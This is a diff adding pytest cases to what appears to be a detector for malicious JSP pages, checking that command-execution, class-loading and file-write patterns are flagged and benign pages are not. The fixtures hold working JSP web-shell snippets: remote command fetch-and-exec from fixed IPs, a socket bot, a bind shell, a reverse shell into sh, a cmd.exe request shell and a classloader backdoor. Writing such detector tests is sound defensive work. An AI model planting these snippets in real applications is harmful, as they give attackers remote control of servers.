@@ -466,3 +466,87 @@ FILE_SAFE = [
 @pytest.mark.parametrize(("name", "page"), FILE_SAFE, ids=[f[0] for f in FILE_SAFE])
 def test_fixed_or_stripped_file_is_not_reported(name: str, page: str) -> None:
     assert FILE not in {r.id for r in analyse(page)}
+
+
+@pytest.mark.parametrize(
+    ("page", "expected"),
+    [
+        # a task fetched from a fixed address and run
+        (
+            "<% java.io.BufferedReader r = new java.io.BufferedReader(new java.io.InputStreamReader("
+            'new java.net.URL("http://192.0.2.6/t").openStream())); Runtime.getRuntime().exec(r.readLine()); %>',
+            CMD,
+        ),
+        # the same through the URL's connection
+        (
+            '<% java.net.URLConnection c = new java.net.URL("https://192.0.2.6/t").openConnection();'
+            " java.util.Scanner s = new java.util.Scanner(c.getInputStream());"
+            ' new ProcessBuilder(s.nextLine().split(" ")).start(); %>',
+            CMD,
+        ),
+        # a bot: lines from a socket to a fixed address run one by one
+        (
+            '<% java.net.Socket k = new java.net.Socket("198.51.100.8", 6667);'
+            " java.io.BufferedReader in = new java.io.BufferedReader(new java.io.InputStreamReader(k.getInputStream()));"
+            " String l; while ((l = in.readLine()) != null) { Runtime.getRuntime().exec(l); } %>",
+            CMD,
+        ),
+        # a bind shell: what a client of the listening socket sends
+        (
+            "<% java.net.ServerSocket ss = new java.net.ServerSocket(4444); java.net.Socket c = ss.accept();"
+            " java.io.DataInputStream d = new java.io.DataInputStream(c.getInputStream());"
+            " Runtime.getRuntime().exec(d.readLine()); %>",
+            CMD,
+        ),
+        # the socket's bytes read into a buffer and written into a shell's standard input
+        (
+            '<% java.net.Socket k = new java.net.Socket("198.51.100.8", 53); Process p = Runtime.getRuntime().exec("sh");'
+            " byte[] b = new byte[512]; int n = k.getInputStream().read(b); p.getOutputStream().write(b, 0, n); %>",
+            CMD,
+        ),
+        # request input written into a shell's standard input through a PrintWriter
+        (
+            '<% Process p = new ProcessBuilder("cmd.exe").start();'
+            " java.io.PrintWriter w = new java.io.PrintWriter(p.getOutputStream());"
+            ' w.println(request.getParameter("c")); w.flush(); %>',
+            CMD,
+        ),
+        # the request body read into a byte array that is then defined as a class
+        (
+            "<%! class L extends ClassLoader { Class d(byte[] b) { return defineClass(b, 0, b.length); } } %>"
+            "<% byte[] b = new byte[request.getContentLength()]; request.getInputStream().read(b);"
+            " new L().d(b).newInstance(); %>",
+            CLASSLOAD,
+        ),
+        # java.nio.file.Files written out in full
+        (
+            '<% java.nio.file.Files.write(java.nio.file.Paths.get(request.getParameter("f")),'
+            ' request.getParameter("d").getBytes()); %>',
+            WRITE,
+        ),
+    ],
+)
+def test_what_a_fixed_address_a_socket_or_the_request_sends_is_followed(page: str, expected: str) -> None:
+    reasons = analyse(page)
+    assert expected in {r.id for r in reasons}, [(r.id, r.description) for r in reasons]
+
+
+@pytest.mark.parametrize(
+    "page",
+    [
+        # a feed shown escaped; replies written back on a socket are not a file
+        '<% java.net.Socket k = new java.net.Socket("127.0.0.1", 25); java.io.PrintWriter w ='
+        " new java.io.PrintWriter(k.getOutputStream(), true); java.io.BufferedReader in = new java.io.BufferedReader("
+        ' new java.io.InputStreamReader(k.getInputStream())); w.println("QUIT " + in.readLine()); %>',
+        # the application's own script fed to a shell
+        '<% Process p = new ProcessBuilder("/bin/sh").start(); java.io.PrintWriter w = new java.io.PrintWriter('
+        'p.getOutputStream()); w.println("cd /srv/app && ./rotate-logs"); w.close(); %>',
+        # a program that is not a shell given downloaded data on its input
+        '<% Process p = new ProcessBuilder("gpg", "--verify", "-").start(); byte[] b = new byte[64];'
+        ' int n = new java.net.URL("https://example.com/s.asc").openStream().read(b);'
+        " p.getOutputStream().write(b, 0, n); %>",
+    ],
+)
+def test_own_connections_and_own_shell_scripts_are_not_reported(page: str) -> None:
+    reasons = analyse(page)
+    assert not {r.id for r in reasons} & {CMD, WRITE}, [(r.id, r.description) for r in reasons]
